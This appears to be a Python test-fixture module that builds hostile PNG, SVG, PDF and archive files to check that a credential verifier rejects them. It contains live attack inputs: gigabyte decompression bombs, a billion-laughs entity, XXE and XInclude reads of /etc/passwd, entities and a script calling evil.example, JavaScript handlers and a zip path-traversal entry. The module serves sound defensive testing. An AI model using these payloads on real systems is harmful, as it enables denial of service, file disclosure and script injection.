"""Pictures, certificates and other files made to break a verifier, added to the kinds of documents.py."""

from __future__ import annotations

import gzip
import io
import sys
import zipfile
import zlib
from typing import TYPE_CHECKING

from registry.credentials.badge import default_badge
from registry.credentials.baking import CREDENTIAL_KEYWORD, bake_png
from registry.credentials.png_chunks import SIGNATURE, Chunk, joined, text_chunk

if TYPE_CHECKING:
    from collections.abc import Callable

documents = sys.modules["hostile_documents"]  # loaded by conftest.py
PICTURE = default_badge(b"hostile")
OPENER = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="https://purl.imsglobal.org/ob/v3p0" xmlns:x="x">'
CARRIER = f"<ob:credential><![CDATA[{documents.TEXT}]]></ob:credential>"


def _gigabyte(wbits: int = zlib.MAX_WBITS) -> bytes:
    """Return a megabyte that inflates to a gigabyte of blanks: one packed block, over and over."""
    packer = zlib.compressobj(9, wbits=wbits)
    first, again = (packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * 1023 + packer.flush()


# --- PNG


def _png(*chunks: Chunk) -> bytes:
    *rest, end = (Chunk(b"IHDR", b"\x7f\xff\xff\xff" * 2 + bytes(5)), Chunk(b"IEND", b""))
    return joined([*rest, *chunks, end])


@documents.kind("PNG with a compressed text that inflates to a gigabyte")
def _png_bomb() -> bytes:
    return _png(Chunk(b"iTXt", CREDENTIAL_KEYWORD + b"\0\1\0\0\0" + _gigabyte()))


@documents.kind("PNG with very many text chunks")
def _png_chunks() -> bytes:
    return _png(*[text_chunk(b"x", "")] * 50_000)


@documents.kind("PNG with many credentials")
def _png_credentials() -> bytes:
    return _png(*[text_chunk(CREDENTIAL_KEYWORD, documents.TEXT)] * 100)


@documents.kind("PNG with a chunk that says it has a hundred million bytes")
def _png_length() -> bytes:
    return SIGNATURE + (10**8).to_bytes(4, "big") + b"IHDR" + bytes(64)


@documents.kind("PNG with a wrong checksum")
def _png_checksum() -> bytes:
    return bake_png(PICTURE, documents.TEXT, "[]").replace(b"Foundations", b"foundations", 1)


@documents.kind("PNG with receipts that are deep")
def _png_receipts() -> bytes:
    return bake_png(PICTURE, documents.TEXT, "[" * 100_000)


# --- SVG


def _svg(inside: str, before: str = "", opener: str = OPENER) -> bytes:
    return f"{before}{opener}{CARRIER}{inside}</svg>".encode()


_LAUGHS = '<!ENTITY l0 "lol">' + "".join(f"<!ENTITY l{at} '" + 10 * f"&l{at - 1};" + "'>" for at in range(1, 12))
_SVGS: dict[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: _svg("<text>&l11;</text>", f"<!DOCTYPE svg [{_LAUGHS}]>"),
    "one long entity, often": lambda: _svg("&a;" * 10**5, "<!DOCTYPE svg [<!ENTITY a '" + "a" * 10**5 + "'>]>"),
    "an entity that is a file": lambda: _svg("&f;", '<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>'),
    "an entity elsewhere": lambda: _svg("&f;", '<!DOCTYPE svg [<!ENTITY f SYSTEM "https://evil.example/x">]>'),
    "a DTD elsewhere": lambda: _svg("", '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd">'),
    "a parameter entity": lambda: _svg("", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>'),
    "an include": lambda: _svg('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    "a script": lambda: _svg("<script>fetch('https://evil.example')</script>"),
    "an event handler": lambda: _svg("", opener=OPENER.replace("<svg ", '<svg onload="alert(1)" ')),
    "a foreign object": lambda: _svg("<foreignObject><iframe src='https://evil.example'/></foreignObject>"),
    "a link that runs": lambda: _svg('<a href="java&#10;script:alert(1)"><text>x</text></a>'),
    "a picture elsewhere": lambda: _svg('<image href="https://evil.example/x.png"/>'),
    "drawings in each other": lambda: _svg("<svg>" * 10**5 + "</svg>" * 10**5),
    "very many elements": lambda: _svg("<g/>" * 150_000),
    "an element with very many attributes": lambda: _svg("<g " + " ".join(f'a{at}="1"' for at in range(50_000)) + "/>"),
    "a very long attribute": lambda: _svg(f'<g d="{"1 " * (documents.ROOM // 2 - 4096)}"/>'),
    "a very long comment": lambda: _svg(f"<!--{'-x' * (documents.ROOM // 2 - 4096)}-->"),
    "two credentials": lambda: _svg(CARRIER),
    "UTF-7": lambda: _svg("", '<?xml version="1.0" encoding="UTF-7"?>'),
    "UTF-16": lambda: f'<?xml version="1.0" encoding="UTF-16"?>{OPENER}{CARRIER}</svg>'.encode("utf-16"),
    "an encoding that nobody knows": lambda: _svg("", '<?xml version="1.0" encoding="x-evil"?>'),
}
for _name, _build in _SVGS.items():
    documents.KINDS[f"SVG with {_name}"] = _build


@documents.kind("SVG packed with gzip")
def _svgz() -> bytes:
    return gzip.compress(_svg(""), mtime=0)


# --- PDF


def _stream(content: bytes, members: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (members, len(content), content)


def _pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, the first its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )


_CATALOGUE = (
    b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Names<</EmbeddedFiles 3 0 R>>>>"
)
_PAGES = b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
_FILE = b"<</Type/Filespec/F(a.json)/EF<</F 5 0 R>>>>"


def _attached(stream: bytes, names: bytes = b"<</Names[(a.json)4 0 R]>>", trailer: bytes = b"") -> bytes:
    return _pdf(_CATALOGUE, _PAGES, names, _FILE, stream, trailer=trailer)


_PDFS: dict[str, Callable[[], bytes]] = {
    "an attachment that inflates to a gigabyte": lambda: _attached(_stream(_gigabyte(), b"/Filter/FlateDecode")),
    "an attachment packed over and over": lambda: _attached(
        _stream(b"x", b"/Filter[/FlateDecode/FlateDecode/LZWDecode]")
    ),
    "a tree of names in a circle": lambda: _attached(_stream(b"{}"), b"<</Kids[3 0 R 3 0 R]>>"),
    "very many attachments": lambda: _attached(_stream(b"{}"), b"<</Names[%s]>>" % (b"(a)4 0 R" * 100_000)),
    "arrays in each other": lambda: _attached(_stream(b"{}"), b"[" * 10**6),
    "pages in a circle and a script": lambda: _attached(_stream(documents.TEXT.encode())),
    "a password": lambda: _attached(_stream(b"{}"), trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O(a)/U(b)/P 0>>"),
    "an object stream that inflates to a gigabyte": lambda: _pdf(
        _stream(_gigabyte(), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"), trailer=b"/XRefStm 15"
    ),
    "nothing after its first line": lambda: documents.filled(b"%PDF-1.7\n", b"1 0 obj\n", b""),
}
for _name, _build in _PDFS.items():
    documents.KINDS[f"PDF with {_name}"] = _build


# --- Other files


@documents.kind("archive packed with gzip that unpacks to a gigabyte")
def _gzip_bomb() -> bytes:
    return _gigabyte(wbits=31)


@documents.kind("archive with a credential")
def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("../../credential.json", documents.TEXT)
    return out.getvalue()


@documents.kind("a million line breaks")
def _blank() -> bytes:
    return b"\n" * documents.ROOM


@documents.kind("a million zero bytes")
def _zeros() -> bytes:
    return bytes(documents.ROOM)


@documents.kind("a web page")
def _page() -> bytes:
    return b"<!doctype html><script>alert(1)</script>" + documents.TEXT.encode()
